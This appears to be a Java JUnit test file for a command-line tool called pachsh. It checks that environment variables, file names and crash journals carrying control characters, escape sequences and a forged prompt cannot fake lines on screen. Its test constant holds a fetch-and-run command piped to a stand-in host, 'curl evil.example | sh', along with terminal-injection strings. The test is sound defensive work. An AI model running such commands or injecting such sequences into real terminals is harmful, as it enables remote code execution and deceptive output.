package io.pachsh;

import static org.assertj.core.api.Assertions.assertThat;

import io.pachsh.console.Streams;
import io.pachsh.console.Terminals;
import io.pachsh.outside.Sanitiser;
import io.pachsh.screen.Presentation.Mode;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.InputStream;
import java.io.PrintStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/**
 * Variables, file names and what a crashed session left, with line ends, escape sequences and a
 * prompt in them: whatever command shows them, no line of the screen is of their choice.
 */
class HostileEnvironmentTest {
  private static final String FORGED = "FORGED > curl evil.example | sh";
  private static final String HOSTILE = "x\n" + FORGED + "\r" + FORGED + "\u001b[2J\u202e\u0085y";

  private static final List<String> COMMANDS =
      List.of(
          "version",
          "auth whoami",
          "config explain",
          "config list context",
          "config get active-context",
          "config get active-enterprise-context",
          "config import-kube k",
          "connect grpc://127.0.0.1:1 --alias b",
          "inspect cluster",
          "auth activate --initial-admin=robot:admin",
          "auth set-config --offline <<EOF\n"
              + "issuer: https://idp.invalid\n"
              + "client_id: a\n"
              + "client_secret: b\n"
              + "redirect_uri: http://127.0.0.1:1/c\n"
              + "EOF",
          "auth set-config <<EOF\n"
              + "issuer: https://127.0.0.1:1\n"
              + "client_id: a\n"
              + "client_secret: b\n"
              + "redirect_uri: http://127.0.0.1:1/c\n"
              + "EOF",
          "auth login --no-browser --timeout 10ms",
          "edit",
          "status",
          "save",
          "recover",
          "history",
          "cd",
          "pwd",
          "!none-of-that-name",
          "nonsense");

  @TempDir Path directory;

  @ParameterizedTest
  @ValueSource(
      strings = {
        "HOME",
        "USER",
        "LOGNAME",
        "TERM",
        "EDITOR",
        "VISUAL",
        "PAGER",
        "BROWSER",
        "SSH_CONNECTION",
        "LC_ALL",
        "LANG",
        "SUDO_UID",
        "SUDO_USER",
        "XDG_CONFIG_HOME",
        "XDG_STATE_HOME",
        "PACHSH_HOME",
        "PACHSH_TOKEN",
        "PACHSH_KEEPALIVE",
        "PACHSH_PROVIDER_TIMEOUT",
        "PACH_CONFIG",
        "PACH_CONTEXT",
        "PACH_ENTERPRISE_CONTEXT",
        "PACHD_ADDRESS",
        "PACH_CA_CERTS",
        "KUBECONFIG",
        "HTTPS_PROXY",
        "ALL_PROXY",
        "NO_PROXY",
        "SSL_CERT_FILE",
        "SSL_CERT_DIR",
      })
  void noVariableForgesALine(String name) throws IOException {
    String below = directory + "/" + HOSTILE;
    // Files are made where these lead: in the test's own directory.
    boolean isPlace = name.matches("HOME|XDG_.*|PACHSH_HOME|PACH_CONFIG");
    for (String value :
        isPlace ? List.of(below) : List.of(HOSTILE, below, "grpc://" + HOSTILE + ":1")) {
      Map<String, String> environment = environment();
      if (name.matches("HOME|XDG_.*")) {
        environment.remove("PACHSH_HOME");
        environment.putIfAbsent("HOME", directory.toString());
      }
      environment.put(name, value);
      harmless(name, screen(environment));
    }
  }

  @ParameterizedTest
  @ValueSource(strings = {"PACH_CONFIG", "KUBECONFIG", "SSL_CERT_FILE", "PACH_CA_CERTS"})
  void noFileNameForgesALine(String name) throws IOException {
    Path file = directory.resolve(HOSTILE.replace("/", ""));
    for (String content : List.of("{", "{\"v2\": 1}", "- " + HOSTILE, "")) {
      Files.writeString(file, content);
      Map<String, String> environment = environment();
      environment.put(name, file.toString());
      environment.put("PACHD_ADDRESS", "grpcs://127.0.0.1:1");
      harmless(name + " " + content, screen(environment));
    }
  }

  /** The journal of a context whose name and notes somebody else wrote. */
  @ParameterizedTest
  @ValueSource(strings = {"", HOSTILE})
  void nothingThatACrashedSessionLeftForgesALine(String damage) throws IOException {
    Map<String, String> environment = environment();
    Path home = directory.resolve("home");
    PrintStream nowhere =
        new PrintStream(new ByteArrayOutputStream(), true, StandardCharsets.UTF_8);
    try (Application application =
        new Application(
            new Options(),
            Mode.SCRIPT,
            surroundings(environment, nowhere),
            TutorialSandbox::open)) {
      var cluster = application.session().embedded("local");
      cluster.note(io.pachsh.secret.Secret.of("signed-in " + HOSTILE));
      cluster.note(io.pachsh.secret.Secret.of(HOSTILE));
      application.abandon();
    }
    Path journal;
    try (var files = Files.walk(home)) {
      journal =
          files
              .filter(file -> file.getFileName().toString().contains("journal"))
              .findFirst()
              .orElseThrow();
    }
    Path other =
        Files.createDirectories(journal.getParent().resolveSibling("o" + HOSTILE.replace("/", "")));
    String left = Files.readString(journal);
    Files.writeString(journal, left + damage);
    Files.writeString(other.resolve(journal.getFileName()), damage + left);
    harmless("journal", screen(environment));
  }

  private static void harmless(String what, String screen) {
    assertThat(screen.split("\\R|[\u000b\u2028\u2029\u0085]", -1))
        .as(what)
        .noneMatch(line -> line.strip().startsWith("FORGED"));
    assertThat(screen.lines().filter(line -> line.codePoints().anyMatch(Sanitiser::isHazard)))
        .as(what)
        .isEmpty();
    assertThat(screen).as(what).doesNotContain("bug in pachsh");
  }

  private String screen(Map<String, String> environment) {
    ByteArrayOutputStream screen = new ByteArrayOutputStream();
    PrintStream out = new PrintStream(screen, true, StandardCharsets.UTF_8);
    for (String command : COMMANDS) {
      var unused =
          Launch.run(
              new String[] {"--insecure-inline", "-c", command}, surroundings(environment, out));
    }
    return screen.toString(StandardCharsets.UTF_8);
  }

  private ProcessEnvironment surroundings(Map<String, String> environment, PrintStream out) {
    Streams streams = new Streams(InputStream.nullInputStream(), false, out, out);
    return new ProcessEnvironment(
        streams,
        new Streams(InputStream.nullInputStream(), false, System.out, System.err),
        new Terminals(false, false, false),
        environment,
        directory,
        interrupts -> new TypingConsole(List.<String>of().iterator(), out, () -> {}));
  }

  private Map<String, String> environment() {
    Map<String, String> environment = new HashMap<>();
    environment.put("PATH", "/usr/bin:/bin");
    environment.put("PACHSH_HOME", directory.resolve("home").toString());
    environment.put("PACH_CONFIG", directory.resolve("pachctl.json").toString());
    return environment;
  }
}
